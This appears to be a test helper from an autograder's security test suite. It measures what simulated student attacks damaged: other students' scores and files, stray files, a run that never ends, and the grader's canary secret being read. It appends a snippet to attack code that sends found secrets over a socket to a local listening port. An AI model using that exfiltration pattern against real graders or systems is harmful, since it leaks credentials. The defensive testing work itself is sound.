"""What an attack may have damaged, looked for after the grading."""

from __future__ import annotations

import hashlib
import json
import sys
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

from tests.attacks import hostile

SECRET = {"GRADERS_TOKEN": hostile.CANARY + "4f1c93" * 5 + "ab"}
NOTES = "notes-of-the-instructor.txt"  # in the class folder; holds the secret too
PORT = 40909
LEFT = "left-by-a-student"

# What an attack has found goes to where somebody listens.
_TELL = f"""
import socket as _socket
_loot = [repr(globals().get(_name))[:20000] for _name in ("found", "secrets") if globals().get(_name)]
if _loot:
    try:
        with _socket.create_connection(("127.0.0.1", {PORT}), 2) as _one:
            _one.sendall(repr(_loot).encode())
    except OSError: pass
"""

# Runs commands one after the other, while it listens, and writes what it was sent to a file.
_LISTENING = """
import json, socket, subprocess, sys, threading
port, heard, lines = int(sys.argv[1]), sys.argv[2], json.loads(sys.argv[3])
def listen(door):
    while True:
        caller, _ = door.accept()
        caller.settimeout(2)
        try:
            with open(heard, "ab") as file:
                while said := caller.recv(1 << 16):
                    file.write(said)
        except OSError:
            pass
door = socket.create_server(("127.0.0.1", port))
threading.Thread(target=listen, args=(door,), daemon=True).start()
sys.exit(max([subprocess.run(line, cwd=sys.argv[4]).returncode for line in lines], key=abs))
"""


def listening(heard: Path, lines: list[list[str]], cwd: Path) -> list[str]:
    """The command that runs `lines` in `cwd`; what is sent to PORT meanwhile goes to `heard`."""
    return [sys.executable, "-c", _LISTENING, str(PORT), str(heard), json.dumps(lines), str(cwd)]


def aimed(code: str) -> str:
    """An attack's code, told of the port that listens, and sending there what it has found."""
    looks = any(f"{name} = " in code or f"{name}, " in code for name in ("found", "secrets"))
    return f"PORTS = [{PORT}]\n{code}{_TELL}" if looks or "PORTS" in code else code


def hashes(folder: Path) -> dict[str, str]:
    """The files below `folder`, each with the hash of its bytes."""
    return {str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in sorted(folder.rglob("*")) if path.is_file() and not path.is_symlink()}


@dataclass(frozen=True)
class Before:
    """What must be the same after: others' work, and the scores of those who have some."""

    work: Mapping[str, str]
    scores: Mapping[str, float]


def damage(
    before: Before, work: Mapping[str, str], scores: Mapping[str, float | None],
    expected: Mapping[str, float], heard: Path, outside: list[Path], ended: bool,
) -> list[str]:
    """What was done, in a few words each. `expected`: scores of those graded in the same run."""
    found = []
    for student, score in before.scores.items():
        if scores.get(student) != score:
            found.append(f"another student's score changed from {score:g} to "
                         f"{_shown(scores.get(student))}")
    if any(work.get(name) != value for name, value in before.work.items()):
        found.append("another student's files were changed")
    if any((folder / LEFT).exists() for folder in outside):
        found.append("a file was left outside")
    said = heard.read_bytes() if heard.exists() else b""
    if any(text.encode() in said for pair in SECRET.items() for text in pair):
        found.append("the grader's secrets were read and sent away")
    elif said:
        found.append("the network was reached")
    if not ended:
        found.append("the run never ended")
    for student, score in expected.items():
        if scores.get(student) is None:
            found.append("the next submission was not graded")
        elif scores[student] != score:
            found.append(f"the next submission got {scores[student]:g}, not {score:g}")
    return found


def _shown(score: float | None) -> str:
    return "none" if score is None else f"{score:g}"
